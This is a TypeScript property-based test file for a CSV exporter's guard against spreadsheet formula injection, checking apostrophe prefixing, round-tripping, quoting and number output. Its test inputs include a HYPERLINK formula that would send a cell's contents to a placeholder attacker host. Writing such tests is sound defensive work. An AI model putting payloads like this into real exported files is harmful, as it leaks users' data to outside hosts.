import * as fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { type Cell, readGuarded, toCsv } from '../../../../lib/export/csv.ts';

const bom = '\uFEFF';

/** A file's cells as a program would take them, guard and all. */
function parsed(text: string): string[][] {
  const body = text.startsWith(bom) ? text.slice(1) : text;
  const { data } = Papa.parse<string[]>(body, { delimiter: ',', newline: '\r\n' });
  return data.slice(0, -1);
}

/** What a spreadsheet would run or swallow: written apart from the writer's own rule, character by character. */
function couldRun(cell: string): boolean {
  const unseen = /[\p{Zs}\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad\u061c\u180e]/u;
  const seen = Array.from(cell).find((character) => !unseen.test(character));
  return [cell.charAt(0), seen ?? ''].some(
    (first) => first !== '' && '=+-@\t\r\n\0＝＋－＠'.includes(first),
  );
}

// prettier-ignore
const nasty = fc.constantFrom(
  '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\0', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ',
  '\u00a0', '\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u3000', '\u00ad', 'x', '1', 'ñ', '🙂', '\u2028',
  '=HYPERLINK("http://evil.example/?"&A1)', 'a;=1+1', '001234', '0', '-5', '+1-202-555-0100', "''",
);
const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.array(nasty, { maxLength: 6 }).map((parts) => parts.join('')),
);
const cell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 5, arbitrary: text },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.constant(null) },
);

test('20,000 generated rows: nothing a spreadsheet could run, nothing lost', () => {
  const count = { rows: 0, runnable: 0, lost: 0 };
  const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), {
    minLength: 100,
    maxLength: 100,
  });
  fc.assert(
    fc.property(table, (rows) => {
      const back = parsed(toCsv(['a', 'b', 'c'], rows)).slice(1);
      expect(back).toHaveLength(rows.length);
      rows.forEach((row, line) => {
        count.rows += 1;
        row.forEach((written, column) => {
          const read = back[line]?.[column] ?? 'missing';
          if (typeof written !== 'string') {
            count.lost += Number(read !== (written === null ? '' : String(written)));
          } else {
            count.runnable += Number(couldRun(read));
            count.lost += Number(readGuarded(read) !== written);
          }
        });
      });
    }),
    { numRuns: 200 },
  );
  expect(count).toEqual({ rows: 20_000, runnable: 0, lost: 0 });
});

describe('the guard', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@A1',
    '\tx',
    '\rx',
    '\nx',
    '\0x',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
    ' =1',
    '\u00a0\u200b=1',
    '\u202e=1',
    '\ufeff=1',
    '=1\nsecond line',
    "'already",
    " 'already",
  ])('one apostrophe before %j', (value) => {
    expect(parsed(toCsv([], [[value]]))[1]).toEqual([`'${value}`]);
    expect(readGuarded(`'${value}`)).toBe(value);
  });

  test.each(['x=1', 'a;=1+1', '5-3', 'Núñez', '', ' x', 'e-mail'])('none before %j', (value) => {
    expect(parsed(toCsv([], [[value]]))[1]).toEqual([value]);
  });

  test('stands in the headings too', () => {
    expect(toCsv(['=1'], [])).toBe(`${bom}"'=1"\r\n`);
  });
});

test('the file as it is written: byte order mark, CRLF, texts quoted, numbers plain, unknown empty', () => {
  expect(
    toCsv(
      ['ID', 'Days', 'Of'],
      [
        ['001234', 19.5, null],
        ['say "hi"\nthere', -0, 0],
      ],
    ),
  ).toBe(`${bom}"ID","Days","Of"\r\n"001234",19.5,\r\n"say ""hi""\nthere",0,0\r\n`);
});

test('a number that is none stays empty, never 0', () => {
  expect(toCsv([], [[Number.NaN, Number.POSITIVE_INFINITY]])).toBe(`${bom}\r\n,\r\n`);
});
